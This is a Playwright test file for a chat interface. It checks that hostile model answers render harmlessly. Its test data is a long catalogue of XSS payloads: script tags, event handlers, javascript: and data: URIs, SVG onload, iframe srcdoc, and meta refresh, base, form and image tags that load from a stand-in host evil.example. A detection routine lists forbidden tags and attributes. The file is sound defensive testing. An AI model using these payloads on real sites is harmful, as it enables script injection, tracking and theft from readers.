// Hostile answers of a model: nothing in them runs, links anywhere but to the web, or reveals who is reading.
import { expect } from 'playwright/test';
import type { Page } from 'playwright/test';
import { answerWith, ask, openChat, stream } from './support/chat-page.ts';
import { test } from './support/shared-page.ts';

/** Each would call `own()` if it came through. */
const answers: Readonly<Record<string, string>> = {
  'a script': '<script>own()</script>\n\n<script src="https://evil.example/x.js"></script>',
  'event handlers':
    '<img src=x onerror=own()>\n\n<details open ontoggle=own()>x</details>\n\n<a href="#" onclick="own()" onfocus=own() autofocus>x</a>\n\n<video><source onerror=own()></video>',
  drawings:
    '<svg onload=own()><script>own()</script><a xlink:href="javascript:own()"><text>x</text></a></svg>\n\n<math><mi xlink:href="javascript:own()">x</mi></math>',
  'frames and objects':
    '<iframe srcdoc="<script>parent.own()</script>"></iframe>\n\n<iframe src="javascript:parent.own()"></iframe>\n\n<object data="data:text/html,<script>own()</script>"></object>\n\n<embed src="https://evil.example/x.swf">',
  'what changes the page':
    '<base href="https://evil.example/">\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<link rel=stylesheet href="https://evil.example/x.css">\n\n<form action="https://evil.example"><input name=q autofocus><button formaction="javascript:own()">x</button></form>',
  styles:
    '<style>body{display:none;background:url(https://evil.example/s.png)}</style>\n\n<div style="position:fixed;inset:0;background:url(https://evil.example/d.png)">over everything</div>\n\n<p class="dialog" id="root">x</p>',
  'links that are programs':
    '[a](javascript:own()) [b](JaVaScRiPt:own()) [c](&#106;avascript:own()) [d](java%73cript:own()) [e](<java\tscript:own()>) [f](vbscript:own) [g](data:text/html,<script>own()</script>) [h](data:text/html;base64,PHNjcmlwdD5vd24oKTwvc2NyaXB0Pg==) <javascript:own()> [i][ref] [j](//evil.example/x) [k](file:///etc/passwd) [l](blob:https://evil.example/1)\n\n[ref]: javascript:own() "title"',
  'images of others':
    '![p](https://evil.example/p.png?who=me) ![q](//evil.example/q.png) ![r][pic] <img src="https://evil.example/h.png"> [![s](https://evil.example/s.png)](https://evil.example/) ![t](http://evil.example/t.gif "t")\n\n[pic]: https://evil.example/r.png',
  'images that are pages':
    '![a](data:text/html,<script>own()</script>) ![b](javascript:own()) ![c](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ib3duKCkiPjxzY3JpcHQ+b3duKCk8L3NjcmlwdD48aW1hZ2UgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvaS5wbmciLz48L3N2Zz4=)',
  formulas:
    '$$\\href{javascript:own()}{x} \\url{javascript:own()} \\includegraphics{https://evil.example/f.png} \\htmlStyle{position:fixed;inset:0}{x} \\htmlId{root}{x} \\htmlData{x=y}{z}$$',
  code: '```"><img src=x onerror=own()>\n</code></pre><script>own()</script>\n```\n\n```html\n<script>own()</script>\n<img src="https://evil.example/c.png" onerror="own()">\n```\n\n`<script>own()</script>`',
  'tables, notes and titles':
    '| <img src=x onerror=own()> | [t](javascript:own()) |\n|---|---|\n| <script>own()</script> | x[^1] |\n\n[^1]: <img src=x onerror=own()> [n](javascript:own())\n\n[titled](https://example.org "\\"onmouseover=own() x=\\"")',
  'comments and half tags':
    '<!-- <script>own()</script> -->\n\n<scr<script>ipt>own()</script>\n\n<img src=x onerror=own()//\n\n</article></main><script>own()</script>',
};

/** Elements and attributes that the page should not have, and blocked attempts. */
const findings = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    const state = window as unknown as { owned?: number; violations?: string[] };
    if (state.owned) found.push(`ran ${state.owned} times`);
    found.push(...(state.violations ?? []).map((violation) => `tried ${violation}`));
    const main = document.querySelector('main');
    for (const element of main?.querySelectorAll('*') ?? []) {
      const name = element.tagName.toLowerCase();
      if (/^(script|style|iframe|object|embed|base|meta|link|form|video|audio|source)$/.test(name))
        found.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`);
        if (
          /^(href|xlink:href|action|formaction|srcdoc)$/.test(attribute) &&
          !/^(https?:|mailto:|#|\/c\/|\/$|\/settings)/.test(value)
        )
          found.push(`${name} ${attribute}=${value}`);
        // Marks of vendors are the page's own.
        if (attribute === 'src' && !/^(data:image\/|blob:|\/marks\/[\w-]+\.svg$)/.test(value))
          found.push(`${name} src=${value}`);
      }
      // Formulas and code are placed by styles of their own; nothing of an answer leaves its place.
      const { position } = getComputedStyle(element);
      if (element.closest('article') && position === 'fixed') found.push(`${name} is fixed`);
    }
    if (getComputedStyle(document.body).display === 'none') found.push('the page is gone');
    if (document.querySelectorAll('#root').length > 0) found.push('an id of theirs');
    return found;
  });

/** Counts what runs, and keeps what the policy refused. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const state = Object.assign(window, { owned: 0, violations: [] as string[] });
    Object.assign(window, { own: () => (state.owned += 1) });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      state.violations.push(`${violatedDirective} ${blockedURI}`),
    );
  });
}

test('what is looked for would be found', async ({ page }) => {
  await watch(page);
  await openChat(page);
  await ask(page, 'echo fine');
  await page
    .locator('article')
    .last()
    .evaluate((article) => {
      article.insertAdjacentHTML(
        'beforeend',
        '<a href="javascript:own()">x</a><img src="https://evil.example/p.png"><svg onload="own()"></svg>' +
          '<style>p{}</style><b id="root" style="position:fixed">x</b>',
      );
      (window as unknown as { own: () => void }).own();
    });
  const found = async (): Promise<string> => (await findings(page)).join('\n');
  for (const what of [
    'ran 1 times',
    'a href=javascript:own()',
    'img src=https',
    'svg onload',
    '<style>',
    'b is fixed',
    'an id',
  ]) {
    await expect.poll(found).toContain(what);
  }
  // And where the page's own care fails, its policy holds.
  await expect.poll(found).toContain('tried img-src https://evil.example/p.png');
});

/** In one chat: each as it comes, and all of them again from what is stored, which a reload draws by another path. */
const groups = Map.groupBy(Object.entries(answers), (_, index) => index % 3);
for (const group of groups.values()) {
  test(group.map(([name]) => name).join('; '), async ({ page, baseURL }) => {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(baseURL ?? '') && !/^(data|blob):/.test(request.url())) asked.push(request.url());
    });
    page.on('dialog', (dialog) => void dialog.dismiss());
    await watch(page);
    await openChat(page);
    for (const [name, answer] of group)
      await test.step(name, async () => {
        // The demo repeats nothing longer; the stream of such an answer is played, and only drawn live.
        const long = answer.length > 150;
        if (long) await answerWith(page, { events: stream(['text', `${answer}\n\nThe end.`], ['stop', 'stop']) });
        const drawn = await ask(page, long ? 'go on' : `echo ${answer}`);
        if (long) await expect(drawn).toContainText('The end.');
        // Content that loads late: images below the fold, formulas, highlighted code.
        await drawn.scrollIntoViewIfNeeded();
        await page.waitForTimeout(500);
        expect.soft(await findings(page)).toEqual([]);
        for (const link of await drawn.getByRole('link').all()) {
          if ((await link.getAttribute('target')) !== '_blank') continue;
          expect(await link.getAttribute('rel')).toMatch(/noopener noreferrer/);
        }
      });
    await page.reload();
    await expect(page.locator('article').last()).toBeVisible();
    // Answers out of sight are drawn as they come into it.
    for (const article of await page.locator('article').all()) {
      await article.scrollIntoViewIfNeeded();
      await page.waitForTimeout(300);
      expect.soft(await findings(page)).toEqual([]);
    }
    expect(asked).toEqual([]);
  });
}

test('a link of an answer opens apart from this page, and tells nothing of it', async ({ chat: page }) => {
  const answer = await ask(page, 'echo [fine](https://example.org/a) and mail@example.org');
  const link = answer.getByRole('link', { name: /^fine/ });
  await expect(link).toHaveAttribute('href', 'https://example.org/a');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
});
